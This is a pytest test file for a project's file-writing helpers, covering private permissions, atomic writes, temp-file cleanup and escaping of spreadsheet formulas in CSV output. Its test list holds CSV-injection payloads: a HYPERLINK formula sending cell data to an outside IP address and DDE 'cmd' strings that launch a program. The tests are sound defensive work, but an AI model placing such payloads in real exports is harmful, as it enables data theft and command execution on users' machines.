"""Files the project writes: private modes, atomic replace, spreadsheet-safe CSV."""

from __future__ import annotations

import csv
import os

import pandas as pd
import pytest

from ringscope.graph.files import TMP_MARKER, atomic_open, private_dir, remove_leftovers, spreadsheet_safe, write_csv

DANGEROUS = [
    '=HYPERLINK("http://203.0.113.7/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def loose_umask():
    """Write with the common 022 umask: modes must not depend on it."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.mark.parametrize("cell", DANGEROUS)
def test_formula_cells_are_neutralised(cell):
    safe = spreadsheet_safe(pd.DataFrame({"summary": [cell]}))["summary"].iloc[0]
    assert safe == "'" + cell


@pytest.mark.parametrize("cell", ["-12.5", "+86", "1e5", "张三 =1", "plain", ""])
def test_numbers_and_plain_text_are_kept(cell):
    assert spreadsheet_safe(pd.DataFrame({"v": [cell]}))["v"].iloc[0] == cell


def test_write_csv_round_trip_has_no_formula_cell(tmp_path, loose_umask):
    frame = pd.DataFrame({"finding_id": ["f1", "f2"], "summary": DANGEROUS[:2], "score": [-0.5, 0.9]})
    path = write_csv(frame, tmp_path / "out" / "findings.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["finding_id", "summary", "score"]
    for row in rows[1:]:
        for cell in row[:2]:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    assert rows[2][2] == "0.9" and rows[1][2] == "-0.5"  # numbers stay numbers
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    assert oct(path.parent.stat().st_mode & 0o777) == "0o700"


def test_atomic_open_leaves_old_file_on_error(tmp_path):
    target = tmp_path / "t.txt"
    target.write_text("old")
    with pytest.raises(RuntimeError):
        with atomic_open(target, "w", encoding="utf-8") as fh:
            fh.write("half")
            raise RuntimeError("killed")
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["t.txt"]


def test_private_dir_creates_every_missing_level_0700(tmp_path, loose_umask):
    leaf = private_dir(tmp_path / "a" / "b" / "c")
    for folder in (leaf, leaf.parent, leaf.parent.parent):
        assert oct(folder.stat().st_mode & 0o777) == "0o700", folder


def test_remove_leftovers_only_touches_temporary_files(tmp_path):
    keep = tmp_path / "Application.parquet"
    keep.write_bytes(b"x")
    ours = tmp_path / f"Application.parquet{TMP_MARKER}abc"
    ours.write_bytes(b"x")
    legacy = tmp_path / "Application.parquet.tmp12345"
    legacy.write_bytes(b"x")
    removed = remove_leftovers(tmp_path)
    assert sorted(p.name for p in removed) == sorted([ours.name, legacy.name])
    assert [p.name for p in tmp_path.iterdir()] == [keep.name]
